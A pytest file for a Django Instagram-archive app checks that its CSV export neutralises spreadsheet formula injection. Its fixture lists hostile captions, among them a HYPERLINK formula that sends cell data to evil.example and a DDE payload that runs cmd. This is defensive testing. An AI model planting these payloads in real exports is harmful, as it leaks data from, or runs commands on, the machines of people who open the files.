"""Issue 17.9: the archive export's posts.csv is safe to open in a spreadsheet (read back from the ZIP)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.urls import reverse

from archive.selectors import GalleryFilters
from archive.services.export import export_stream
from tests.archive.factories import make_profile

pytestmark = pytest.mark.django_db

# Caption as archived from Instagram → the cell a spreadsheet must read (an independent table: OWASP's rule).
CAPTIONS = {
    '=HYPERLINK("https://evil.example/?"&A1,"Win")': '\'=HYPERLINK("https://evil.example/?"&A1,"Win")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3 #sale": "'-2+3 #sale",
    "@SUM(1,2)": "'@SUM(1,2)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "Plain caption #coffee": "Plain caption #coffee",
}


@pytest.fixture
def profile(workspace, archive_settings):
    profile = make_profile(workspace, posts=len(CAPTIONS))
    for post, caption in zip(profile.posts.order_by("taken_at"), CAPTIONS, strict=True):
        post.caption = caption
        post.shortcode = "-" + post.shortcode  # a shortcode may start with "-" too (Instagram's alphabet has it)
        post.save(update_fields=["caption", "shortcode"])
    return profile


def read_csv(data: bytes) -> list[dict[str, str]]:
    archive = zipfile.ZipFile(io.BytesIO(data))
    return list(csv.DictReader(io.StringIO(archive.read("posts.csv").decode("utf-8-sig"), newline="")))


def test_the_service_writes_neutralised_cells(profile):
    rows = read_csv(b"".join(export_stream(profile=profile, filters=GalleryFilters())))
    assert sorted(r["caption"] for r in rows) == sorted(CAPTIONS.values())
    assert all(r["shortcode"].startswith("'-") for r in rows)
    assert all(not r["permalink"].startswith("'") for r in rows)  # harmless cells stay as they were


def test_the_downloaded_zip_holds_neutralised_cells(login, client_user, profile, workspace):
    response = login(client_user).get(reverse("archive:export", kwargs={"ws": workspace.slug, "pk": profile.pk}))
    assert response.status_code == 200
    rows = read_csv(b"".join(response.streaming_content))
    assert sorted(r["caption"] for r in rows) == sorted(CAPTIONS.values())
    assert {r["like_count"] for r in rows} <= {"", *map(str, range(0, 100, 10))}
